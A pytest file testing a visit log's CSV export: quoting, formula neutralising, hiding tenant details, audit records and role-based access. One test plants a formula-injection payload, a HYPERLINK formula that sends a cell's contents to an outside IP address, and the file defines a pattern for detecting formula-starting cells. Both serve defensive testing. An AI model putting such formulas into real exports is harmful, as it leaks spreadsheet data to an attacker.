"""The visit log as a file for a spreadsheet: the rows on the screen, and nothing in it that calculates (T35)."""

import csv
import io
import re
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from fieldvisit.audit.models import AccessRecord
from fieldvisit.desk.csv_export import BYTE_ORDER_MARK, COLUMNS, file_name, harmless
from tests.services.test_visit_log_queries import write
from tests.stories import a_visit
from tests.world import NOW, World

# As the advice writes them: what a spreadsheet may take for the beginning of a formula.
DANGEROUS = re.compile(r"[\s\0-\x1f\x7f\u200b-\u200f\u2028-\u202e\u2060-\u2064\ufeff]*[=+\-@＝＋－＠]|[\t\r\n]")
STARTS = st.sampled_from(
    ["", "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u200b=", "\ufeff+", "'"]
)


def rows_of(world: World, query: str = "", who: str = "olive") -> list[list[str]]:
    answer = world.client(who).get(f"/office/visits.csv{query}")
    assert answer.status_code == 200
    text = answer.data.decode()
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


@given(STARTS, st.text(max_size=30))
def test_no_cell_can_begin_a_formula(start, rest):
    assert not DANGEROUS.match(harmless(start + rest))


@given(st.text(max_size=30))
def test_a_cell_loses_nothing_that_was_in_it(text):
    assert harmless(text) in (text, "'" + text)


@given(st.from_regex(r"[A-Za-z0-9£(\"][^\0]{0,20}", fullmatch=True))
def test_an_ordinary_cell_is_left_as_it_is(text):
    assert harmless(text) == text


def test_what_a_scheduler_typed_as_a_reason_cannot_calculate(world):
    a_visit(world, reason='=HYPERLINK("http://198.51.100.7/"&A1,"Click")', starts=NOW + timedelta(hours=60))
    header, row = rows_of(world)
    assert row[header.index("Reason")].startswith("'=HYPERLINK")


def test_every_field_is_quoted(world):
    write(world)
    text = world.client("olive").get("/office/visits.csv").data.decode().removeprefix(BYTE_ORDER_MARK)
    line = r'("([^"]|"")*",)*"([^"]|"")*"'
    assert all(re.fullmatch(line, each) for each in text.rstrip("\r\n").split("\r\n"))


def test_a_uprn_stays_text_in_a_spreadsheet(world):
    """All digits would be read as a number and shown as 1.0003E+11, quoted or not."""
    write(world)
    header, row = rows_of(world)
    uprn = row[header.index("UPRN")]
    assert uprn == "UPRN 100030000001"
    with pytest.raises(ValueError, match="could not convert"):
        float(uprn)


def test_the_file_holds_what_the_screen_holds(world):
    write(world, kind="inspection", reason="Yearly gas check", exceptions=["short-notice"], exception_count=1)
    write(world)
    header, row = rows_of(world, "?kind=inspection")
    assert tuple(header) == COLUMNS
    told = dict(zip(header, row, strict=True))
    assert told["Address"] == "1 Larch Close, Melton Mowbray"
    assert (told["Date"], told["From"], told["To"]) == ("08/12/2026", "09:00", "11:00")
    assert (told["Kind"], told["Reason"], told["Worker"]) == ("Inspection", "Yearly gas check", "Asha Kaur")
    assert told["Exceptions"] == "Short notice"


def test_a_files_rows_are_those_of_its_page(world):
    for number in range(53):
        write(world, window_start=NOW - timedelta(hours=number))
    screen = world.client("olive").get("/office/visits").text
    assert len(rows_of(world)) == 1 + 50
    older = screen.split("/office/visits?after=")[1].split('"')[0]
    assert len(rows_of(world, f"?after={older}")) == 1 + 3
    second = world.client("olive").get(f"/office/visits?after={older}").text
    assert f"/office/visits.csv?after={older}" in second


def test_a_file_never_holds_another_areas_visit(world):
    write(world, home="100030000004")
    assert rows_of(world) == [list(COLUMNS)]


def test_no_tenants_name_is_in_the_file(world):
    write(world)
    assert "Terry" not in str(rows_of(world))


def test_the_browser_saves_it_under_a_name_that_tells_nothing(world):
    answer = world.client("olive").get("/office/visits.csv?q=larch")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="visit-log-2026-12-08-0900.csv"'
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "no-store"


def test_the_name_says_londons_time_in_summer():
    assert file_name(NOW.replace(month=7)) == "visit-log-2026-07-08-1000.csv"


def test_a_download_is_written_down_without_what_was_searched_for(world):
    world.client("olive").get("/office/visits.csv?q=larch")
    with world.database.reading(None) as session:
        row = session.scalars(select(AccessRecord).where(AccessRecord.action == "export")).one()
    assert (row.person_id, row.reason) == (world.ids["olive"], "filters: q")


def test_a_filter_that_cannot_be_used_leads_back_to_the_page_that_says_so(world):
    answer = world.client("olive").get("/office/visits.csv?q=la&kind=inspection")
    assert (answer.status_code, answer.headers["Location"]) == (303, "/office/visits?q=la&kind=inspection")


def test_a_manager_takes_the_firms_open_visits_without_a_word_that_anybody_wrote(world):
    a_visit(world, reason="Mrs Moss says the tap drips")
    a_visit(world, lead="carl", home="100030000002")
    a_visit(world, home="100030000003").done()
    header, row = rows_of(world, who="mona")
    assert header == [column for column in COLUMNS if column != "Reason"]
    told = dict(zip(header, row, strict=True))
    assert (told["Address"], told["Kind"], told["Worker"]) == ("1 Larch Close, Melton Mowbray", "Repair", "Asha Kaur")
    assert "drips" not in str(row)
    assert rows_of(world, "?q=drips", who="mona") == [header]


def test_a_managers_download_is_written_down(world):
    rows_of(world, who="mona")
    with world.database.reading(None) as session:
        row = session.scalars(select(AccessRecord).where(AccessRecord.action == "export")).one()
    assert (row.person_id, row.role) == (world.ids["mona"], "contractor_manager")


def test_nobody_else_may_download(world):
    for who in ("hana", "asha", "ines", "aud"):
        assert world.client(who).get("/office/visits.csv").status_code == 404
